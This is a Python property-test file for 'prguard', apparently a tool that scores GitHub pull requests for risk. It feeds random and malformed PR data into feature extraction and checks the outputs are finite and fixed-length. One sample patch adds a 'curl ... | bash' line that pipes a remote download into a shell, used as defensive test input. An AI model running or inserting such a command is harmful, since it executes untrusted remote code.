"""Property tests: any GitHub-shaped (or garbled) PR gives a fixed-length finite vector, never an exception."""
from __future__ import annotations

import json
import math

from hypothesis import HealthCheck, given, settings, strategies as st

from prguard.features import extraction
from prguard.features.extraction import FEATURE_NAMES, build_profile, extract, profile_stats
from prguard.features.summary import summarize

# Odd values GitHub never sends but a stored document or a test file might hold.
junk = st.one_of(st.none(), st.booleans(), st.integers(-10**15, 10**15), st.floats(allow_nan=True),
                 st.text(max_size=30), st.lists(st.integers(), max_size=3),
                 st.dictionaries(st.text(max_size=5), st.integers(), max_size=2))
counts = st.one_of(st.integers(0, 100_000), junk)
timestamps = st.one_of(st.datetimes().map(lambda d: d.isoformat() + "Z"), st.just("2024-02-30T00:00:00Z"), junk)
paths = st.one_of(st.sampled_from([".github/workflows/ci.yml", "package-lock.json", "package.json", "src/a.py",
                                   "tests/x.bin", "CODEOWNERS", "Makefile", "a/b/c/d/e.go", "docs/x.png"]),
                  st.text(max_size=40), junk)
patches = st.one_of(st.none(), st.text(max_size=200),
                    st.just("@@ -1 +1 @@\n+curl -sSL http://x | bash"), junk)


def maybe(strategy):
    """A field that is present with a value, absent, or of the wrong type."""
    return st.one_of(strategy, junk)


files = st.lists(st.one_of(st.fixed_dictionaries({}, optional={
    "filename": paths, "status": maybe(st.sampled_from(["added", "modified", "removed", "renamed"])),
    "additions": counts, "deletions": counts, "changes": counts, "patch": patches}), junk), max_size=12)
repo = st.fixed_dictionaries({}, optional={"full_name": maybe(st.sampled_from(["acme/lib", "ACME/Lib", "x/y"])),
                                           "default_branch": maybe(st.sampled_from(["main", "master"]))})
pull_requests = st.fixed_dictionaries({}, optional={
    "number": counts, "title": maybe(st.text(max_size=60)), "body": maybe(st.text(max_size=60)),
    "draft": junk, "user": maybe(st.fixed_dictionaries({}, optional={"login": maybe(st.text(max_size=20)),
                                                                     "type": maybe(st.sampled_from(["Bot", "User"]))})),
    "author_association": maybe(st.sampled_from(["OWNER", "MEMBER", "NONE", "FIRST_TIME_CONTRIBUTOR", "x"])),
    "created_at": timestamps, "updated_at": timestamps,
    "head": maybe(st.fixed_dictionaries({}, optional={"ref": maybe(st.text(max_size=40)), "repo": maybe(repo),
                                                      "sha": junk})),
    "base": maybe(st.fixed_dictionaries({}, optional={"ref": maybe(st.text(max_size=20)), "repo": maybe(repo)})),
    "additions": counts, "deletions": counts, "changed_files": counts, "commits": counts, "files": maybe(files),
})
documents = st.one_of(pull_requests, junk)

fast = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@fast
@given(doc=documents)
def test_any_document_gives_a_finite_vector_of_fixed_length(doc):
    values = extract(summarize(doc), None)
    assert len(values) == len(FEATURE_NAMES)
    assert all(isinstance(v, float) and math.isfinite(v) for v in values)
    for name in ("rel_changed_files", "touches_ci", "branch_shell_syntax", "hour_sin", "change_entropy"):
        assert isinstance(extraction.explainer(summarize(doc), None)(name), str)
    assert isinstance(extraction.sensitive_files(summarize(doc)), list)


@fast
@given(history=st.lists(documents, max_size=15), doc=documents)
def test_any_history_gives_a_usable_json_safe_profile(history, doc):
    profile = build_profile("acme/lib", [profile_stats(summarize(d)) for d in history])
    restored = extraction.RepoProfile.from_dict(json.loads(json.dumps(profile.to_dict(), allow_nan=False)))
    values = extract(summarize(doc), restored)
    assert len(values) == len(FEATURE_NAMES) and all(math.isfinite(v) for v in values)
    assert values == extract(summarize(doc), profile)
